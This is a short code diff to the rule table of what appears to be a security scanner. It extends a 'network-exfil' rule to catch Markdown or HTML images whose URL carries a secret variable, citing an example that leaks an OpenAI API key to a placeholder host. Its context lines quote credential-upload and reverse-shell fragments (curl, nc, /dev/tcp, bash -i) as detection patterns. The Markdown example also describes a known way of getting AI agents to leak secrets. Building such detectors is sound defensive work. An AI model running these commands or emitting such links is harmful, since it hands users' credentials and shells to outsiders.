@@ -158,9 +158,10 @@ _RULES = [
         "network-exfil",
         "high",
         "uploads of secrets, credential files or the environment (curl -d @~/.ssh/..., "
-        "env | curl, nc host < file)",
+        "env | curl, nc host < file); a Markdown or HTML link or image whose URL carries a secret variable or "
+        "a command substitution (![x](https://e.example/?d=$OPENAI_API_KEY)), fetched by a renderer or the agent",
         "remove the upload",
-        "medium for a secret variable in a URL or payload, low for an upload of an ordinary file",
+        "medium for a secret variable in a command's URL or payload, low for an upload of an ordinary file",
     ),
     Rule("reverse-shell", "high", "reverse shells (/dev/tcp, nc -e, bash -i >&)", "remove it"),
     Rule(
